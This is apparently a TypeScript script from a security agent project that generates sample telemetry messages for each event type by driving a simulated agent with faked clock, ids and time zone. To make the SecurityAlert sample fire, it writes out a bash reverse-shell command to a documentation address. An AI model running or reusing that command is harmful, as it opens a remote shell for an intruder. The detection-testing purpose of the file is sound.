/* One message of every event for config/samples/, made by the agent's own parts: what its sources would read is given, and the
 * kernel and the hub are left out. Each sample is made by an agent of its own. Ids and times are derived from the event's name, so
 * that a file changes only when the message of its event does. */

import crypto, { hash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sinon from 'sinon';
import { BaselineEngine } from '../src/agent/baseline/engine.ts';
import { collectors } from '../src/agent/collectors/index.ts';
import { LAST_GOOD_FILE } from '../src/agent/config/last-good.ts';
import { TwinConfiguration } from '../src/agent/config/twin-configuration.ts';
import { Alerts } from '../src/agent/detections/alerts/alerts.ts';
import { alertPolicy } from '../src/agent/detections/alerts/policy.ts';
import { builtInRules } from '../src/agent/detections/built-in.ts';
import { Detections } from '../src/agent/detections/detections.ts';
import { ChangeNotices } from '../src/agent/pipeline/notices.ts';
import { systemClock } from '../src/core/base/clock.ts';
import { hours, minutes, seconds } from '../src/core/base/duration.ts';
import { stableId } from '../src/core/base/stable-id.ts';
import type { BaselineReport } from '../src/core/contract/baseline.ts';
import type { TriggeredCollector } from '../src/core/contract/collector.ts';
import type { Lookups } from '../src/core/contract/lookups.ts';
import { type Message, propertiesOf } from '../src/core/contract/message.ts';
import { ruleLists } from '../src/core/contract/settings.ts';
import type { Sources } from '../src/core/contract/sources.ts';
import type { ConfigurationFault } from '../src/core/contract/streams.ts';
import { RUNNING, withTree } from '../test/agent/baseline/tree.ts';
import { look, records, sources } from '../test/agent/collectors/samples.ts';
import { publishedDialect } from '../test/agent/config/published.ts';
import { quietLog } from '../test/agent/pipeline/memory-queues.ts';
import { SimulatedAgent } from '../test/agent/pipeline/simulated-agent.ts';
import { immediateStateFiles } from '../test/agent/state/immediate-state-files.ts';
import { type DocumentGenerator, GENERATED, table } from './documents.ts';

const FOLDER = 'config/samples';
const MIDNIGHT = Date.parse('2026-03-04T00:00:00.000Z');
/** From the beginning of an event to the arrival of its message. */
const DELAY = minutes(30);
const ZONE = 'Europe/Berlin';
const PROCESS_ID = 641;
const DEVICE = { deviceId: 'pump-7', moduleId: 'azureiotsecurity' };

/** As a digest of a file would be: these files are not at hand. */
const digestOf = (path: string) => hash('sha256', path, 'hex');

const CONTAINER = digestOf('a container');

/** Events that are sent first because another event reports on them. The agent of a sample collects no other event. */
const BEFORE: Readonly<Record<string, string>> = {
  ConfigurationError: 'Diagnostic',
  DroppedEventsStatistics: 'Login',
  MessageStatistics: 'Login',
  SecurityAlert: 'ProcessCreate',
};

/** The time of day at which the agent of a sample starts. */
const startOf = (event: string) => new Date(MIDNIGHT + (Number.parseInt(digestOf(event).slice(0, 8), 16) % hours(24)));

const lookups: Lookups = {
  ...look,
  started: ({ executable = '' }) => ({ containerId: CONTAINER, sha256: digestOf(executable) }),
};

/** The system of the samples is a board, without a hypervisor, and not itself in a container. */
async function systemFacts() {
  const { hypervisor: _, container: __, ...facts } = await sources.system.facts(new AbortController().signal);
  return facts;
}

/** Two rules that a system does not meet, evaluated by the engine. */
function scanned(): Promise<BaselineReport> {
  const only = ['sshd.permitrootlogin', 'sysctl.kernel.kptr_restrict'];
  const files = {
    ...RUNNING,
    'etc/ssh/sshd_config': 'PermitRootLogin yes\n',
    'usr/sbin/sshd': { mode: 0o755 },
    'proc/sys/kernel/kptr_restrict': '0\n',
  };
  return withTree(files, ({ root }) =>
    new BaselineEngine({ hostRoot: root, clock: systemClock, inContainer: false }).scan(
      { level: 1, walk: false, groupsDisabled: [], checksDisabled: [], roles: [], only },
      new AbortController().signal,
    ),
  );
}

/**
 * The record of one message that `vakt emulator --record` writes, with the body parsed. Make one sample after the other: each replaces
 * the clock, the time zone and random ids.
 */
async function makeSample(event: string): Promise<Readonly<Record<string, unknown>>> {
  const report = await scanned();
  const facts = await systemFacts();
  const from = {
    ...sources,
    system: { facts: async () => facts },
    baseline: { ...sources.baseline, scan: async () => report },
  };
  return withFixedValues(event, async (time) => {
    const device = new SampledDevice(event, from, time);
    await device.start();
    const before = BEFORE[event];
    if (before !== undefined) await device.sample(before);
    await time.tickAsync(hours(1));
    const at = new Date();
    const record = recordOf(await device.sample(event), at);
    await device.stop();
    return record;
  });
}

/** @param at the beginning of what the message is about */
const recordOf = (message: Message, at: Date) => {
  const { system, application } = propertiesOf(message);
  return {
    enqueuedAt: new Date(at.getTime() + DELAY).toISOString(),
    ...DEVICE,
    systemProperties: system,
    applicationProperties: application,
    body: JSON.parse(message.body),
  };
};

/** Makes what differs from run to run the same: the clock, the time zone, random UUIDs, the process id. */
async function withFixedValues<T>(event: string, work: (time: sinon.SinonFakeTimers) => Promise<T>): Promise<T> {
  const { randomUUID } = crypto;
  const zone = process.env.TZ;
  const pid = Object.getOwnPropertyDescriptor(process, 'pid') as PropertyDescriptor;
  let ids = 0;
  crypto.randomUUID = () => stableId(`sample ${event} ${++ids}`) as ReturnType<typeof randomUUID>;
  syncBuiltinESMExports();
  process.env.TZ = ZONE;
  Object.defineProperty(process, 'pid', { ...pid, value: PROCESS_ID });
  const time = sinon.useFakeTimers({
    now: startOf(event),
    toFake: ['setTimeout', 'clearTimeout', 'Date', 'performance'],
  });
  try {
    return await work(time);
  } finally {
    time.restore();
    Object.defineProperty(process, 'pid', pid);
    if (zone === undefined) delete process.env.TZ;
    else process.env.TZ = zone;
    crypto.randomUUID = randomUUID;
    syncBuiltinESMExports();
  }
}

/** An agent whose sources have the samples of the collectors' tests. */
class SampledDevice {
  readonly #agent: SimulatedAgent;
  readonly #time: sinon.SinonFakeTimers;
  readonly #detections: Detections;
  readonly #configuration: TwinConfiguration;
  readonly #folder = mkdtempSync(join(tmpdir(), 'vakt-samples-'));
  #faults: readonly ConfigurationFault[] = [];

  constructor(event: string, from: Omit<Sources, 'statistics'>, time: sinon.SinonFakeTimers) {
    const agent = new SimulatedAgent({
      sources: from,
      lookups,
      collectors: collectors.filter(({ name }) => name === event || name === BEFORE[event]),
    });
    const { occurrences, triggers, publisher, queues, settings, origin } = agent;
    const parts = { clock: systemClock, log: quietLog() };
    const alerts = new Alerts({
      raise: (record) => occurrences.accept('alerts', [record]),
      sendEarly: () => {},
      policy: () => alertPolicy(settings.current()),
      origin,
      ...parts,
    });
    this.#detections = new Detections({
      isOn: () => true,
      rules: builtInRules(),
      lists: () => ({ ...ruleLists(settings.current()), badAddresses: [] }),
      alerts,
      ancestry: {
        processAt: (pid) => ({
          pid,
          parentPid: 0,
          executable: '/usr/sbin/nginx',
          commandLine: 'nginx: worker process',
        }),
      },
      files: { isRootOwned: () => false, runsHostFile: () => undefined },
      userNameOf: () => undefined,
      idOf: (occurrence) => triggers.idOf(occurrence),
      collectors: () => [],
      isPaused: () => false,
      snapshotPeriod: () => hours(13),
      ...parts,
      changed: () => {},
      stateChanged: () => {},
    });
    occurrences.offerTo(this.#detections);
    const notices = new ChangeNotices({
      files: immediateStateFiles,
      announce: (line) => {
        let position: number | undefined;
        for (const batch of occurrences.translate('log', [line])) position = triggers.announce(batch);
        publisher.sendHighWithin(minutes(7));
        return position;
      },
      isWaiting: (position) => queues.isWaiting('High', position),
      file: join(this.#folder, 'change-notices.json'),
      ...parts,
    });
    this.#configuration = new TwinConfiguration({
      files: immediateStateFiles,
      dialect: publishedDialect(),
      lastGoodFile: join(this.#folder, LAST_GOOD_FILE),
      onFaults: (faults) => {
        this.#faults = faults;
      },
      changed: (change) => notices.accept(change),
      ...parts,
    });
    this.#agent = agent;
    this.#time = time;
  }

  async start(): Promise<void> {
    await this.#agent.startWithoutSnapshots();
    await this.#detections.start();
  }

  async stop(): Promise<void> {
    await this.#detections.stop();
    await this.#agent.stop(this.#time);
    rmSync(this.#folder, { recursive: true });
  }

  /** Makes the event happen, and returns its message. */
  async sample(event: string): Promise<Message> {
    const collector = collectors.find(({ name }) => name === event);
    if (collector === undefined) throw new Error(`${event} has no collector`);
    const { messages, snapshots, aggregator, publisher } = this.#agent;
    const before = messages.length;
    if (collector.category === 'Periodic') await snapshots.takeNow([event]);
    else await this.#happens(collector);
    if (event !== 'SecurityAlert') aggregator.flush(); // what raised the alert is still counted
    await this.#passing(publisher.flush(seconds(20)));
    const [sent, ...more] = messages.slice(before);
    if (sent === undefined) throw new Error(`${event} makes no message`);
    if (more.length > 0) throw new Error(`${event} makes ${more.length + 1} messages`);
    return sent.message;
  }

  /** By default, an event happens once, as the record of its stream in the samples says. */
  async #happens({ name, stream }: TriggeredCollector): Promise<void> {
    const { occurrences } = this.#agent;
    const time = new Date();
    switch (name) {
      case 'ProcessCreate':
        for (const _ of [1, 2, 3]) {
          const now = new Date();
          occurrences.accept('starts', [{ ...records.starts, time: now, startedAt: now }]);
          await this.#time.tickAsync(minutes(5));
        }
        return;
      case 'ConnectionCreate':
        for (const port of [50_112, 50_118]) {
          const local = { address: '2001:db8::1', port };
          occurrences.accept('connections', [{ ...records.connections, local, time: new Date() }]);
          await this.#time.tickAsync(minutes(10));
        }
        return;
      case 'Diagnostic':
        return this.#configure({ maxMessageSizeInBytes: { value: 10_000 } });
      case 'ConfigurationError':
        return occurrences.accept('configuration', this.#faults);
      case 'SecurityAlert': {
        const commandLine = 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
        const start = { ...records.starts, executable: '/usr/bin/bash', commandLine, userId: 0, time, startedAt: time };
        return occurrences.accept('starts', [start]);
      }
      default:
        return occurrences.accept(stream, [{ ...records[stream], time }]);
    }
  }

  #configure(object: object): void {
    this.#configuration.apply({ $version: 7, ...publishedDialect().sectionWith(object) });
  }

  /** Lets time pass until the work is done; how much may differ from run to run. */
  async #passing(work: Promise<unknown>): Promise<void> {
    let isDone = false;
    const done = work.finally(() => {
      isDone = true;
    });
    while (!isDone) await this.#time.tickAsync(seconds(1));
    await done;
  }
}

const sampleFile = async (event: string) => `${JSON.stringify(await makeSample(event), null, 2)}\n`;

const readme = () => `<!-- ${GENERATED} -->

# One message of every event

Made by the agent's own collectors, aggregation, queues and packing from facts that a device has; \`npm run docs\` writes them,
and a test holds that they are what this version sends, and valid by
[message.schema.json](../schemas/message.schema.json). Ids and times are derived from the event's name.

${table(
  ['File', 'Content'],
  collectors.map(({ name, summary }) => [`[${name}.json](${name}.json)`, summary]),
)}

Each file is a message as \`vakt emulator --record\` writes it, on several lines and with its body parsed: \`deviceId\`,
\`moduleId\` and \`enqueuedAt\` are what the hub adds, \`systemProperties\` and \`applicationProperties\` what the agent sets,
named as in routing queries. Each message is from an agent of its own and is the first of its chain
([contract §3](../../docs/contract.md#3-messages)), or the second if it reports on another event. Here a message has events of one name only; normally it has all events that were
waiting. ProcessCreate, ProcessTerminate and ConnectionCreate are aggregated, as by default: \`HitCount\` occurrences between
\`StartTimeUtc\` and \`EndTimeUtc\`. [docs/consume.md](../../docs/consume.md) says how to receive messages, and what to do with
them.
`;

export const sampleDocuments: readonly DocumentGenerator[] = [
  { path: `${FOLDER}/README.md`, generate: readme },
  ...collectors.map(({ name }) => ({ path: `${FOLDER}/${name}.json`, generate: () => sampleFile(name) })),
];
